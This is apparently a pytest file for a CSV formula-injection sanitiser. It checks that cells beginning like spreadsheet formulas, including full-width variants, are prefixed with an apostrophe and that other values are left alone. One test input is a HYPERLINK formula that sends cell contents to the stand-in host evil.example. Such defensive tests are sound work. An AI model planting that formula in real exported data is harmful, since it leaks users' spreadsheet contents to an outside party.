"""CSV cells a spreadsheet would run as a formula are neutralised, and nothing else changes."""

import csv
import io

import pytest

from core.platform.spreadsheet import safe_cell, safe_row


@pytest.mark.parametrize(("cell", "written"), [
    ("=HYPERLINK(\"http://evil.example/?\"&A1)", "'=HYPERLINK(\"http://evil.example/?\"&A1)"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("＝1+1", "'＝1+1"),  # full-width forms, as a Chinese input method types them
    ("＋1", "'＋1"), ("－1", "'－1"), ("＠x", "'＠x"),
    ("plain text", "plain text"), ("中文=1", "中文=1"), ("a-b", "a-b"), (" =1", " =1"), ("", ""),
    ("'=already", "'=already"),
    (-3, -3), (2.5, 2.5), (None, None), (True, True),
])
def test_only_text_starting_like_a_formula_is_neutralised(cell, written):
    assert safe_cell(cell) == written


def test_a_neutralised_row_reads_back_as_the_same_text_behind_an_apostrophe():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(safe_row(["=1,2", "ok", 7, "-x\n\"y\""]))
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1,2", "ok", "7", "'-x\n\"y\""]
